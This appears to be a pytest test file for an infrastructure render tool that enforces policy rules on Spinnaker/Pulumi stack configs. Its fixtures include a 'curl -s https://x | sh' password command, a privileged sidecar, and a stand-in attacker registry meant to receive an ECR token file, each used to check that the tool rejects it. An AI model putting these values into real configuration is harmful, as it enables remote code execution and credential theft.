"""The render runs the policy pack's rules on what it rendered: every finding printed with its level, a mandatory
one fails the render (exit 3, nothing written), and production stacks are checked with production.json."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from tools import policy_check
from tools.pulumi_yaml import dump_yaml
from tools.render import EXIT_INVALID, EXIT_POLICY, _policy_config, main
from tools.stack_files import read_stack_file, stack_config, stack_file

PINNED = "registry.example/tool@sha256:" + "ab" * 32
ATTACKER = "https://registry.attacker.example"


def config_file(tmp_path: Path, stack: str, edit: Any) -> Path:
    document = {"config": copy.deepcopy(stack_config(stack))}
    edit(document["config"])
    path = tmp_path / f"Pulumi.{stack}.yaml"
    path.write_text(dump_yaml(document), encoding="utf-8")
    return path


def render(tmp_path: Path, path: Path, *extra: str) -> tuple[int, str, Path]:
    out = tmp_path / "out"
    code = main(["--config-file", str(path), "--out", str(out), *extra])
    return code, "", out


def extra_sidecar(**fields: Any) -> Any:
    def edit(config: dict[str, Any]) -> None:
        spinnaker = config.setdefault("spinnaker-ecr:spinnaker", {})
        spinnaker.setdefault("extraSidecars", []).append({"name": "shell", "dockerImage": PINNED, **fields})

    return edit


def extra_account(**fields: Any) -> Any:
    def edit(config: dict[str, Any]) -> None:
        spinnaker = config.setdefault("spinnaker-ecr:spinnaker", {})
        spinnaker.setdefault("extraDockerAccounts", []).append({"name": "other", **fields})

    return edit


@pytest.mark.parametrize("stack", ["dev", "staging", "prod"])
def test_our_stacks_render_with_no_mandatory_finding(
    stack: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--stack", stack, "--out", str(tmp_path / stack)]) == 0
    assert "[mandatory]" not in capsys.readouterr().err


def test_an_advisory_finding_is_printed_and_the_render_goes_on(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--stack", "dev", "--out", str(tmp_path / "dev")]) == 0
    err = capsys.readouterr().err
    assert "render: policy [advisory] token-refresh-image-pinned-by-digest:" in err
    assert (tmp_path / "dev" / "summary.json").exists()


@pytest.mark.parametrize(
    ("edit", "policy", "named"),
    [
        (extra_sidecar(securityContext={"privileged": True}), "sidecars-unprivileged-and-pinned", "'shell'"),
        (extra_sidecar(dockerImage="registry.example/tool:latest"), "sidecars-unprivileged-and-pinned", "'shell'"),
        (
            extra_account(address="https://index.docker.io", passwordCommand="curl -s https://x | sh"),
            "no-password-or-command-in-other-accounts",
            "'other'",
        ),
    ],
    ids=["privileged sidecar", "unpinned sidecar", "password command"],
)
def test_what_is_advisory_elsewhere_fails_a_production_render(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], edit: Any, policy: str, named: str
) -> None:
    path = config_file(tmp_path, "prod", edit)
    code, _, out = render(tmp_path, path)
    err = capsys.readouterr().err
    assert code == EXIT_POLICY, err
    assert any(f"[mandatory] {policy}:" in row and named in row for row in err.splitlines()), err
    assert "nothing written" in err and not out.exists()

    staging = config_file(tmp_path, "staging", edit)
    assert main(["--config-file", str(staging), "--out", str(tmp_path / "staging-out")]) == 0
    err = capsys.readouterr().err
    assert any(f"[advisory] {policy}:" in row and named in row for row in err.splitlines()), err


def test_the_policy_config_flag_sets_the_levels(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    production = Path("policy/config/production.json")
    code = main(["--stack", "dev", "--out", str(tmp_path / "dev"), "--policy-config", str(production)])
    assert code == EXIT_POLICY
    assert "[mandatory] token-refresh-image-pinned-by-digest:" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("{", "is not JSON"),
        ("[]", "is not a JSON object"),
        ('{"no-such-policy": "mandatory"}', "no-such-policy"),
        ('{"token-refresh-image-pinned-by-digest": "mandatroy"}', 'to "mandatroy", which is not a level (advisory'),
        ('{"token-refresh-image-pinned-by-digest": 1}', "to 1, which is not a level (advisory"),
    ],
)
def test_a_bad_policy_config_is_named_and_nothing_is_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, expected: str
) -> None:
    policy_config = tmp_path / "policy.json"
    policy_config.write_text(text, encoding="utf-8")
    code = main(["--stack", "dev", "--out", str(tmp_path / "dev"), "--policy-config", str(policy_config)])
    assert code == EXIT_INVALID
    assert expected in capsys.readouterr().err
    assert not (tmp_path / "dev").exists()


def test_the_ecr_token_cannot_be_sent_elsewhere_by_a_stack_file_edit(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = config_file(
        tmp_path, "prod", extra_account(address=ATTACKER, passwordFile="/etc/passwords/ecr-prod-use1.pass")
    )
    code, _, out = render(tmp_path, path)
    assert code == EXIT_INVALID
    assert "holds the ECR token of registry ecr-prod-use1" in capsys.readouterr().err
    assert not out.exists()


def test_the_production_default_is_the_files_own(tmp_path: Path) -> None:
    """Without --policy-config, a stack file that says production is checked with production.json; others with
    the pack's own levels."""
    production = json.loads(policy_check.PRODUCTION_CONFIG.read_text())
    assert production
    assert _policy_config(None, read_stack_file(stack_file("prod"))) == production
    assert _policy_config(None, read_stack_file(stack_file("dev"))) is None
    assert _policy_config(None, read_stack_file(stack_file("staging"))) is None


def test_the_exit_codes_are_the_documented_ones() -> None:
    """docs/render.md and the module say: 2 for what the user fixes, 3 for a mandatory policy violation."""
    assert (EXIT_INVALID, EXIT_POLICY) == (2, 3)
